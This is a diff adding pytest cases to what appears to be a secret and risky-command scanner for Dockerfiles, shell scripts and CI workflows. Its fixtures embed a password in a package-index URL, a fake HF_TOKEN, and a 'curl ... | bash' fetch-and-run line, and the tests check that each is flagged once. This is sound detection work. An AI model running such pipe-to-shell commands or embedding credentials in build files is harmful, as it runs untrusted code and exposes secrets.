@@ -64,3 +64,46 @@ def test_manifest(case, how, tmp_path, capsys, monkeypatch):
     unchecked = entry["verdict"] in {"incomplete", "corrupt", "unsupported"} or entry["reasons"]
     others = any(file is not entry for file in report["files"])
     assert others or code == (1 if worst >= Severity.MEDIUM.rank else 2 if unchecked else 0)
+
+
+URL = "https://ci:s3cr3tW0rd77@packages.acme.example/simple"
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        (
+            "Dockerfile",
+            f"FROM python:3.12\nENV PIP_INDEX_URL={URL}\nRUN pip install -i {URL} torch\n",
+        ),
+        ("build.sh", f"pip install -i {URL} torch==2.0\n"),
+        (
+            ".github/workflows/ci.yml",
+            f"on: push\njobs:\n  a:\n    steps:\n      - run: pip install -i {URL} torch\n",
+        ),
+    ],
+)
+def test_a_credential_that_two_checks_see_is_told_once(path, text, tmp_path, capsys):
+    root = written(tmp_path, {path: text})
+    _, report, _ = scanned(capsys, root / path)
+    (entry,) = report["files"]
+    told = [finding["rule_id"] for finding in entry["findings"]]
+    assert told.count("TW-PKG-CREDENTIAL") == 1
+    assert "TW-PIPE-SECRET" not in told
+
+
+def test_another_password_beside_a_credential_is_told(tmp_path, capsys):
+    text = f"FROM python:3.12\nENV PIP_INDEX_URL={URL}\nENV HF_TOKEN=hf_{'aB3dE6gH9k' * 4}\n"
+    root = written(tmp_path, {"Dockerfile": text})
+    _, report, _ = scanned(capsys, root / "Dockerfile")
+    (entry,) = report["files"]
+    (secret,) = [one for one in entry["findings"] if one["rule_id"] == "TW-PIPE-SECRET"]
+    assert secret["evidence"]["line"] == 3
+
+
+def test_a_command_that_fetches_and_runs_is_told_once(tmp_path, capsys):
+    root = written(tmp_path, {"run.sh": "set -e\ncurl https://a.example/x.sh | bash\n"})
+    _, report, _ = scanned(capsys, root / "run.sh")
+    (entry,) = report["files"]
+    told = [one["rule_id"] for one in entry["findings"] if one["evidence"].get("line") == 2]
+    assert len(told) == 1
